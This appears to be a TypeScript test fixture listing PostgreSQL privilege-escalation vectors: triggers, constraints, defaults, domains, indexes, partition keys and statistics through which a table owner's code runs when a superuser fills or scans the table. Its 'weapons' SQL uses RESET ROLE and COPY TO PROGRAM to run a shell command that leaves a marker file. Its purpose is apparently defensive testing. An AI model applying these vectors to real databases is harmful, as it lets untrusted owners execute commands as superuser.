// Attacks as data: what the owner of a table can attach to it, so that anyone who fills or reads it as a superuser runs
// code of that owner. Each calls evil.strike(NAME), which leaves a mark that only a superuser can leave.

import type { FillAttack } from './fill-attack.ts';
import { toldAttacks } from './told-attacks.ts';

const plain = (name: string): string => `CREATE TABLE app.${name} (id int PRIMARY KEY, note text);`;

const rowTrigger = (name: string, clause: string, mode: string): string =>
  `${plain(name)} CREATE ${clause} ON app.${name} FOR EACH ROW EXECUTE FUNCTION evil.fire();
   ALTER TABLE app.${name} ENABLE ${mode} TRIGGER t;`;

const check = (name: string): string => `evil.ok('${name}', note)`;

const everyFillAttack: readonly FillAttack[] = [
  {
    name: 'always',
    table: rowTrigger('always', 'TRIGGER t BEFORE INSERT', 'ALWAYS'),
    caller: 'trigger t',
    function: 'evil.fire()',
  },
  {
    name: 'replica',
    table: rowTrigger('replica', 'TRIGGER t AFTER INSERT', 'REPLICA'),
    caller: 'trigger t',
    function: 'evil.fire()',
  },
  {
    name: 'deferred',
    table: rowTrigger('deferred', 'CONSTRAINT TRIGGER t AFTER INSERT', 'ALWAYS').replace(
      ' FOR EACH',
      ' DEFERRABLE INITIALLY DEFERRED FOR EACH',
    ),
    caller: 'trigger t',
    function: 'evil.fire()',
    notNative: 'a deferred trigger is refused where SET ROLE is',
  },
  {
    name: 'statement',
    table: `${plain('statement')} CREATE TRIGGER t AFTER INSERT ON app.statement EXECUTE FUNCTION evil.fire();
      ALTER TABLE app.statement ENABLE ALWAYS TRIGGER t;`,
    caller: 'trigger t',
    function: 'evil.fire()',
  },
  {
    name: 'checked',
    table: `CREATE TABLE app.checked (id int PRIMARY KEY, note text CONSTRAINT c CHECK (${check('checked')}));`,
    caller: 'check c',
    function: 'evil.ok(text,anyelement)',
  },
  {
    name: 'operator_check',
    table: `CREATE TABLE app.operator_check (id int PRIMARY KEY, note text
      CONSTRAINT c CHECK ('operator_check'::text OPERATOR(evil.@@@) note));`,
    caller: 'check c',
    function: 'evil.okay(text,text)',
  },
  {
    name: 'defaulted',
    table: `CREATE TABLE app.defaulted (id int PRIMARY KEY, note text, more bool DEFAULT evil.ok('defaulted', 1));`,
    caller: 'default of more',
    function: 'evil.ok(text,anyelement)',
  },
  {
    name: 'generated',
    table: `CREATE TABLE app.generated (id int PRIMARY KEY, note text,
      more bool GENERATED ALWAYS AS (${check('generated')}) STORED);`,
    caller: 'generated column more',
    function: 'evil.ok(text,anyelement)',
  },
  {
    name: 'domain',
    published: 'id int PRIMARY KEY, note app.note',
    table: `CREATE DOMAIN app.note AS text CHECK (evil.ok('domain', VALUE));
      CREATE TABLE app.domain (id int PRIMARY KEY, note app.note);`,
    caller: 'type of note',
    function: 'evil.ok(text,anyelement)',
  },
  {
    name: 'nested_domain',
    published: 'id int PRIMARY KEY, note app.outer_note[]',
    table: `CREATE DOMAIN app.inner_note AS text CHECK (evil.ok('nested_domain', VALUE));
      CREATE DOMAIN app.outer_note AS app.inner_note;
      CREATE TABLE app.nested_domain (id int PRIMARY KEY, note app.outer_note[]);`,
    caller: 'type of note',
    function: 'evil.ok(text,anyelement)',
  },
  {
    name: 'composite',
    published: 'id int PRIMARY KEY, note app.pair',
    table: `CREATE DOMAIN app.half AS text CHECK (evil.ok('composite', VALUE));
      CREATE TYPE app.pair AS (a int, b app.half);
      CREATE TABLE app.composite (id int PRIMARY KEY, note app.pair);`,
    caller: 'type of note',
    function: 'evil.ok(text,anyelement)',
  },
  {
    name: 'range_index',
    published: 'id int PRIMARY KEY, note app.span',
    // Once in a session: an index loses its buffer lock where one of thousands of programs fails, on a busy machine.
    table: `CREATE FUNCTION app.apart(int, int) RETURNS float8 LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN
        IF coalesce(pg_catalog.current_setting('attack.struck', true), '') = '' THEN
          PERFORM pg_catalog.set_config('attack.struck', 'yes', false);
          PERFORM evil.ok('range_index', 1);
        END IF;
        RETURN $1 - $2; END $f$;
      CREATE TYPE app.span AS RANGE (subtype = int4, subtype_diff = app.apart);
      CREATE TABLE app.range_index (id int PRIMARY KEY, note app.span);
      CREATE INDEX ON app.range_index USING gist (note);`,
    caller: 'type of note',
    function: 'app.apart(integer,integer)',
    notNative:
      'a GiST index loses its buffer lock where its function catches the error of RESET ROLE',
  },
  {
    name: 'expression_index',
    table: `${plain('expression_index')} CREATE INDEX i ON app.expression_index ((${check('expression_index')}));`,
    caller: 'index i',
    function: 'evil.ok(text,anyelement)',
  },
  {
    name: 'partial_index',
    table: `${plain('partial_index')} CREATE INDEX p ON app.partial_index (id) WHERE ${check('partial_index')};`,
    caller: 'index p',
    function: 'evil.ok(text,anyelement)',
  },
  {
    name: 'exclusion',
    table: `${plain('exclusion')} ALTER TABLE app.exclusion
      ADD CONSTRAINT e EXCLUDE USING btree ((evil.same('exclusion', note)) WITH =);`,
    caller: 'index e',
    function: 'evil.same(text,text)',
  },
  {
    name: 'routed',
    table: `CREATE TABLE app.routed (id int, note text) PARTITION BY RANGE (evil.same('routed', note));
      CREATE TABLE app.routed_rest PARTITION OF app.routed DEFAULT;`,
    caller: 'partition key',
    function: 'evil.same(text,text)',
  },
  {
    name: 'leaf',
    table: `CREATE TABLE app.leaf (id int, note text) PARTITION BY LIST (id);
      CREATE TABLE app.leaf_rest PARTITION OF app.leaf DEFAULT;
      CREATE TRIGGER t BEFORE INSERT ON app.leaf_rest FOR EACH ROW EXECUTE FUNCTION evil.fire('leaf');
      ALTER TABLE app.leaf_rest ENABLE ALWAYS TRIGGER t;`,
    caller: 'trigger t of app.leaf_rest',
    function: 'evil.fire()',
  },
  ...toldAttacks,
  {
    name: 'folded',
    // Run as soon as any query on the table is planned, whatever it asks for.
    table: `${plain('folded')} CREATE INDEX f ON app.folded ((id + evil.one('folded')));`,
    caller: 'index f',
    function: 'evil.one(text)',
  },
];

export const fillAttacks = (major: number): readonly FillAttack[] =>
  everyFillAttack.filter(({ since = 0 }) => since <= major);

/**
 * Filled without running anything: a default of a column that is sent, triggers that do not fire, a rule; and what tables
 * usually call.
 */
export const harmless = `
  CREATE EXTENSION citext SCHEMA app;
  CREATE EXTENSION pgcrypto SCHEMA app;
  CREATE TABLE app.harmless (
    id int PRIMARY KEY CHECK (id > 0 AND id::text <> ''),
    note text DEFAULT evil.same('harmless', 'x') CHECK (lower(note) <> 'x' AND note LIKE 'n%'),
    n serial,
    made timestamptz DEFAULT now() CHECK (made > DATE '2020-01-01' AND date_trunc('day', made) <= CURRENT_TIMESTAMP),
    day date DEFAULT CURRENT_DATE,
    key uuid DEFAULT gen_random_uuid(),
    salt text DEFAULT app.gen_salt('bf'),
    made_by name DEFAULT CURRENT_USER,
    size numeric DEFAULT random() CHECK (size BETWEEN 0 AND 1),
    name app.citext DEFAULT 'x' CHECK (name <> 'y'),
    doc jsonb DEFAULT jsonb_build_object('a', 1) CHECK (to_jsonb(made) IS NOT NULL),
    words tsvector GENERATED ALWAYS AS (to_tsvector('english', note)) STORED);
  CREATE TRIGGER ordinary BEFORE INSERT ON app.harmless FOR EACH ROW EXECUTE FUNCTION evil.fire();
  CREATE TRIGGER disabled BEFORE INSERT ON app.harmless FOR EACH ROW EXECUTE FUNCTION evil.fire();
  ALTER TABLE app.harmless DISABLE TRIGGER disabled;
  CREATE RULE r AS ON INSERT TO app.harmless DO ALSO SELECT evil.strike('harmless');
  ALTER TABLE app.harmless ENABLE ALWAYS RULE r;`;

/** On the publisher, by the same names, without any code. */
export const harmlessTypes = `
  CREATE DOMAIN app.note AS text;
  CREATE DOMAIN app.inner_note AS text;
  CREATE DOMAIN app.outer_note AS app.inner_note;
  CREATE DOMAIN app.half AS text;
  CREATE TYPE app.pair AS (a int, b app.half);
  CREATE TYPE app.span AS RANGE (subtype = int4);
  CREATE DOMAIN app.told AS text;
  CREATE TYPE app.mood AS ENUM ('fine');
  CREATE TYPE app.feeling AS ENUM ('fine');`;

/** On the publisher: what a query that steep plans on the table would run. `note` can be in a row filter. */
export interface ScanAttack {
  readonly name: string;
  /** Run by the owner on the publisher. */
  readonly attached: string;
  readonly caller: string;
}

export const scanAttacks: readonly ScanAttack[] = [
  {
    name: 'source_index',
    attached: `CREATE INDEX source_i ON app.source_index ((id + evil.one('source_index')))`,
    caller: 'index source_i',
  },
  {
    name: 'source_predicate',
    attached: `CREATE INDEX source_p ON app.source_predicate (id) WHERE id > evil.one('source_predicate')`,
    caller: 'index source_p',
  },
  {
    name: 'source_statistics',
    attached: `CREATE STATISTICS app.s ON (id + evil.one('source_statistics')), note FROM app.source_statistics`,
    caller: 'statistics s',
  },
];

/**
 * As a superuser each function leaves a file NAME in the folder, whatever role the session has set; as anyone else it
 * does nothing. The immutable ones call one that is not, which PostgreSQL does not forbid.
 */
export const weapons = (folder: string): string => `
  CREATE SCHEMA IF NOT EXISTS evil;
  CREATE FUNCTION evil.strike(name text) RETURNS void LANGUAGE plpgsql VOLATILE AS $f$ BEGIN
    RESET ROLE;
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles AS r WHERE r.rolname = current_user) THEN
      EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch ${folder}/' || name);
    END IF;
  EXCEPTION WHEN others THEN RETURN; END $f$;
  CREATE FUNCTION evil.ok(name text, value anyelement) RETURNS bool LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN
    PERFORM evil.strike(name); RETURN true; END $f$;
  CREATE FUNCTION evil.okay(name text, value text) RETURNS bool LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN
    PERFORM evil.strike(name); RETURN true; END $f$;
  CREATE OPERATOR evil.@@@ (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.okay);
  CREATE FUNCTION evil.same(name text, value text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN
    PERFORM evil.strike(name); RETURN value; END $f$;
  CREATE FUNCTION evil.one(name text) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN
    PERFORM evil.strike(name); RETURN 1; END $f$;
  CREATE FUNCTION evil.fire() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN
    PERFORM evil.strike(coalesce(TG_ARGV[0], TG_TABLE_NAME)); RETURN NEW; END $f$;
`;
